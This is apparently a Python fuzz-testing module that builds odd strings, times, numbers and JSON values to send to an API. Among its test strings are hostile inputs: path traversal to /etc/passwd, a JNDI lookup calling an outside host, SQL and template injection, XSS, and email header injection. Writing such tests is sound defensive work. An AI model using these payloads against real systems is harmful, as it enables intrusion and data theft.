"""What strangers send where something else is meant: texts, numbers, times, whole JSON values."""

from __future__ import annotations

from random import Random
from typing import Any

TEXTS = (
    "",
    " ",
    "\t\n",
    "\x00",
    "a\x00b",
    "\x1b[31m",
    "\x7f\x85",
    "\u202eabc",
    "\u200b\u200d\ufeff",
    "\u2028",
    "ｆｕｌｌｗｉｄｔｈ",
    "İıſK",
    "ß" * 60,
    "é" * 40,
    "e\u0301" * 40,
    "👩‍👩‍👧‍👦" * 20,
    "\U0010ffff",
    "\ufffe\uffff",
    "٣٤٥٦",
    "½²",
    "-",
    "--",
    "../../etc/passwd",
    "..%2f..%2f",
    "%00",
    "%",
    "a/b",
    "a\\b",
    "{}",
    "{plan_id}",
    "${jndi:ldap://x.example/a}",
    "{{7*7}}",
    "#{7*7}",
    "' OR '1'='1",
    "'; --",
    "<script>x()</script>",
    '"><img src=x>',
    "__proto__",
    "constructor",
    "null",
    "true",
    "undefined",
    "NaN",
    "0",
    "-1",
    "1e9",
    "0x10",
    "1_000",
    "4242424242424242",
    "4242 4242 4242 4242",
    "a@b",
    "a@b.example\r\nBcc: c@d.example",
    "@",
    "a" * 65,
    "a" * 121,
    "a" * 1001,
    "0" * 5000,
    "X" * 30000,
    "(a+)+" * 20,
    "plan_",
    "claim_none",
    "grant_video_",
    "card_" + "0" * 40,
    "US",
    "us",
    "en-US",
    "1ZNA0001",
)
TIMES = (
    "2026-11-22T17:42:19Z",
    "2026-11-22T17:42:19.123456789Z",
    "2026-11-22T17:42:19+23:59",
    "2026-11-22T17:42:19-99:99",
    "2026-11-22T17:42:19",
    "2026-11-22 17:42:19Z",
    "2026-11-22",
    "2026-W47-7",
    "20261122T174219Z",
    "2026-02-30T00:00:00Z",
    "2026-13-01",
    "2026-11-22T24:00:00Z",
    "2026-11-22T23:59:60Z",
    "0001-01-01T00:00:00Z",
    "0001-01-01T00:00:00+23:59",
    "0000-00-00",
    "-0001-01-01T00:00:00Z",
    "9999-12-31T23:59:59Z",
    "9999-12-31T23:59:59-23:59",
    "+275760-09-13T00:00:00Z",
    "1900-01-01",
    "1969-12-31T23:59:59.999Z",
    "2286-11-20T17:46:40Z",
    "9999-12-31",
    "0001-01-01",
    "1795370539",
)
NUMBERS: tuple[int | float, ...] = (
    0,
    -0.0,
    1,
    -1,
    12,
    13,
    0.5,
    12.0,
    2**31,
    2**53 + 1,
    2**63,
    2**64,
    -(2**63) - 1,
    10**9 + 1,
    10**18,
    10**30,
    10**38,
    10**39,
    -(10**39),
    10**400,
    1e308,
    5e-324,
    1e-200,
    0.1 + 0.2,
)
NAMES = ("x", "", "serial ", "Serial", "__proto__", "a/b~c", "amount", "account_id", "dry_run", "é")


def text(dice: Random) -> str:
    """An odd text, a time, or one made of any characters."""
    if dice.random() < 0.2:
        return dice.choice(TIMES)
    if dice.random() < 0.8:
        return dice.choice(TEXTS)
    return "".join(_character(dice) for _ in range(dice.choice((1, 3, 20, 200))))


def value(dice: Random, depth: int = 0) -> Any:
    """An odd JSON value."""
    kind = dice.random()
    if kind < 0.4:
        return text(dice)
    if kind < 0.65:
        return dice.choice(NUMBERS)
    if kind < 0.8 or depth > 3:
        return dice.choice((None, True, False, [], {}, [[]], [None], {"": None}))
    if kind < 0.9:
        return [value(dice, depth + 1) for _ in range(dice.choice((1, 2, 5, 60)))]
    return {name(dice): value(dice, depth + 1) for _ in range(dice.choice((1, 2, 5)))}


def name(dice: Random) -> str:
    """A name of a field that is none of ours, or of another body."""
    return dice.choice(NAMES) if dice.random() < 0.7 else text(dice)[:200]


def nested(depth: int, leaf: Any = 1) -> Any:
    """`leaf` in so many lists."""
    for _ in range(depth):
        leaf = [leaf]
    return leaf


def _character(dice: Random) -> str:
    ranges = (
        (32, 126),
        (0, 31),
        (128, 0x2FF),
        (0x590, 0x6FF),
        (0x2000, 0x206F),
        (0x1F300, 0x1F6FF),
    )
    return chr(dice.randint(*dice.choice(ranges)))
